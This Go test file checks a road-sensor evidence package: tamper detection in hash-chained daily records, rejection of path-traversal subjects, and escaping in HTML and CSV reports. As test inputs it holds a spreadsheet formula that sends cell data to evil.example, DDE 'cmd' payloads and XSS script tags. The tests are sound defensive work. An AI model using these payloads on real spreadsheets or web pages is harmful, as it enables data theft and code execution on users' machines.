package evidence_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/kessel-city/kessel"
	"github.com/kessel-city/kessel/evidence"
)

// TestVerify: an untouched chain verifies; changing one stored value,
// removing a day, or rewriting a day with a fresh hash each break the chain
// at the day named.
func TestVerify(t *testing.T) {
	tests := []struct {
		name   string
		change func([]kessel.EvidenceEntry) []kessel.EvidenceEntry
		broken string
		reason string
	}{
		{"untouched", func(es []kessel.EvidenceEntry) []kessel.EvidenceEntry { return es }, "", ""},
		{"one value changed", func(es []kessel.EvidenceEntry) []kessel.EvidenceEntry {
			es[2].Doc = bytes.Replace(es[2].Doc, []byte(`"min":1.5`), []byte(`"min":-2.5`), 1)
			return es
		}, "2026-12-03", "was changed"},
		{"a note changed", func(es []kessel.EvidenceEntry) []kessel.EvidenceEntry {
			es[1].Doc = bytes.Replace(es[1].Doc, []byte(`05:40`), []byte(`04:40`), 1)
			return es
		}, "2026-12-02", "was changed"},
		{"a day removed", func(es []kessel.EvidenceEntry) []kessel.EvidenceEntry { return slices.Delete(es, 1, 2) }, "2026-12-03", "link to the day before"},
		{"a day rewritten and hashed again", func(es []kessel.EvidenceEntry) []kessel.EvidenceEntry {
			r, _ := evidence.Decode(es[1])
			r.Sensors[0].Acks = nil
			r, _ = evidence.Seal(r, r.Prev)
			es[1], _ = evidence.Entry(r)
			return es
		}, "2026-12-03", "link to the day before"},
		{"not a record", func(es []kessel.EvidenceEntry) []kessel.EvidenceEntry {
			es[3].Doc = []byte(`{"day": 1}`)
			return es
		}, "2026-12-04", "cannot be read"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			es := tc.change(chain(t, "2026-12-01", 4))
			res := evidence.Verify("sensor:road-1", es)
			if res.OK != (tc.broken == "") || res.BrokenAt != tc.broken || !strings.Contains(res.Reason, tc.reason) {
				t.Errorf("Verify: %+v; want broken at %q (%q)", res, tc.broken, tc.reason)
			}
			if res.OK && (res.Head != es[len(es)-1].Hash || res.Days != 4) {
				t.Errorf("head %s over %d days, want the last day's hash over 4", res.Head, res.Days)
			}
		})
	}
}

// TestCanonical: sealing is deterministic and the hash covers the link.
func TestCanonical(t *testing.T) {
	a, b := chain(t, "2026-12-01", 2), chain(t, "2026-12-01", 2)
	if a[1].Hash != b[1].Hash || !bytes.Equal(a[1].Doc, b[1].Doc) {
		t.Fatal("the same input sealed twice differs")
	}
	r, _ := evidence.Decode(a[1])
	other, _ := evidence.Seal(r, strings.Repeat("0", 64))
	if other.Hash == a[1].Hash {
		t.Error("the hash does not depend on the previous day's")
	}
	doc, _ := evidence.Canonical(r)
	if bytes.Contains(doc, []byte(`"hash"`)) || !bytes.Contains(doc, []byte(`"prev":"`+a[0].Hash+`"`)) {
		t.Errorf("canonical form: %s", doc)
	}
}

// TestDir: records kept as files verify on their own; a changed file
// breaks at its day.
func TestDir(t *testing.T) {
	dir := evidence.Dir(t.TempDir())
	for _, e := range chain(t, "2026-12-01", 3) {
		r, _ := evidence.Decode(e)
		if err := dir.Put(r); err != nil {
			t.Fatal(err)
		}
	}
	es, err := dir.ReadDir("sensor:road-1")
	if err != nil || len(es) != 3 {
		t.Fatalf("read %d entries: %v", len(es), err)
	}
	if res := evidence.Verify("sensor:road-1", es); !res.OK {
		t.Fatalf("files do not verify: %+v", res)
	}
	path := filepath.Join(string(dir), "sensor", "road-1", "2026-12-02.json")
	doc, _ := os.ReadFile(path)
	if err := os.WriteFile(path, bytes.Replace(doc, []byte(`"max": 1.5`), []byte(`"max": 7.5`), 1), 0o600); err != nil {
		t.Fatal(err)
	}
	es, _ = dir.ReadDir("sensor:road-1")
	if res := evidence.Verify("sensor:road-1", es); res.OK || res.BrokenAt != "2026-12-02" {
		t.Errorf("a changed file: %+v, want broken at 2026-12-02", res)
	}
	// A subject that is no sensor's or route's id is refused before any
	// file is read: a pattern would gather other chains' files.
	for _, subject := range []string{"sensor:../../etc", "sensor:*", "sensor:road-?", "sensor:[a-z]*", "route:..", "sensor:", "sensor:a/b", "truck:road-1"} {
		if es, err := dir.ReadDir(subject); kessel.ErrorCode(err) != kessel.EINVALID || len(es) != 0 {
			t.Errorf("ReadDir(%q): %d entries, %v; want EINVALID", subject, len(es), err)
		}
	}
}

// TestReport: the HTML and CSV exports carry the alert times, the note,
// the hashes and the verification.
func TestReport(t *testing.T) {
	es := chain(t, "2026-12-01", 2)
	var recs []evidence.Record
	for _, e := range es {
		r, _ := evidence.Decode(e)
		recs = append(recs, r)
	}
	rep := evidence.Report{Subject: recs[0].Subject, From: "2026-12-01", To: "2026-12-02", Records: recs, Result: evidence.Verify("sensor:road-1", es)}
	var page, sheet bytes.Buffer
	if err := rep.WriteHTML(&page); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Unverändert", es[1].Hash, "Streufahrzeug 3 ausgerückt 05:40", "01.12.2026 01:00:00 CET", "01.12.2026 08:00:00 CET", "dauerte über das Tagesende an", "Fahrbahntemperatur"} {
		if !strings.Contains(page.String(), want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
	if err := rep.WriteCSV(&sheet); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&sheet).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	count, notes := map[string]int{}, map[string]int{}
	for _, r := range rows[1:] {
		count[r[0]]++
		if r[0] == "ack" {
			notes[r[17]]++
		}
	}
	if notes["Streufahrzeug 3 ausgerückt 05:40"] != 2 {
		t.Errorf("ack notes %v, want the gritter's each day", notes)
	}
	if want := map[string]int{"day": 2, "stats": 2, "alert": 4, "ack": 4, "verification": 1}; !maps(count, want) {
		t.Errorf("rows by entry %v, want %v", count, want)
	}
	if last := rows[len(rows)-1]; last[19] != es[1].Hash || last[17] != "unverändert" {
		t.Errorf("verification row %v", last)
	}
}

func maps(a, b map[string]int) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// TestReportHostileText: an acknowledgement's note, its key's name and an
// alert's summary come from outside. In the CSV a cell that a spreadsheet
// would run as a formula (starting with = + - @, a tab or a carriage
// return) is prefixed with an apostrophe; in the HTML report markup is
// shown as text. Numbers keep their sign.
func TestReportHostileText(t *testing.T) {
	for _, tc := range []struct {
		name, note, csvNote, htmlHas string
	}{
		{"formula", `=HYPERLINK("http://evil.example/?"&A1,"Beleg")`, `'=HYPERLINK("http://evil.example/?"&A1,"Beleg")`, "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1"},
		{"plus", "+49 711 123", "'+49 711 123", "&#43;49 711 123"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "-2&#43;3&#43;cmd|&#39; /C calc&#39;!A0"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1&#43;1)*cmd"},
		{"tab", "\t=1+1", "'\t=1+1", "\t=1&#43;1"},
		{"markup", `<script>alert(1)</script><img src=x onerror=alert(2)>`, `<script>alert(1)</script><img src=x onerror=alert(2)>`, "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;"},
		{"plain", "Streufahrzeug 3 ausgerückt", "Streufahrzeug 3 ausgerückt", "Streufahrzeug 3 ausgerückt"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			es := chain(t, "2026-12-01", 1)
			rec, _ := evidence.Decode(es[0])
			sd := &rec.Sensors[0]
			for i := range sd.Acks {
				sd.Acks[i].Note, sd.Acks[i].By = tc.note, tc.note
			}
			for i := range sd.Alerts {
				sd.Alerts[i].Summary = tc.note
			}
			min := -3.5
			for q, st := range sd.Stats {
				st.Min = min
				sd.Stats[q] = st
			}
			rep := evidence.Report{Subject: rec.Subject, From: rec.Day, To: rec.Day, Records: []evidence.Record{rec}}
			var page, sheet bytes.Buffer
			if err := rep.WriteHTML(&page); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(page.String(), tc.htmlHas) || strings.Contains(page.String(), "<script>alert") || strings.Contains(page.String(), "<img src=x") {
				t.Errorf("HTML shows %q not as %q", tc.note, tc.htmlHas)
			}
			if err := rep.WriteCSV(&sheet); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&sheet).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			seen := map[string]int{}
			for _, r := range rows[1:] {
				switch r[0] {
				case "ack":
					if r[17] != tc.csvNote || r[16] != tc.csvNote {
						t.Errorf("ack row by %q note %q, want %q", r[16], r[17], tc.csvNote)
					}
				case "alert":
					if r[17] != tc.csvNote {
						t.Errorf("alert row note %q, want %q", r[17], tc.csvNote)
					}
				case "stats":
					if r[7] != "-3.5" {
						t.Errorf("stats row min %q, want -3.5", r[7])
					}
				}
				seen[r[0]]++
			}
			if seen["ack"] == 0 || seen["alert"] == 0 || seen["stats"] == 0 {
				t.Fatalf("rows by entry %v: the test needs an ack, an alert and stats", seen)
			}
		})
	}
}
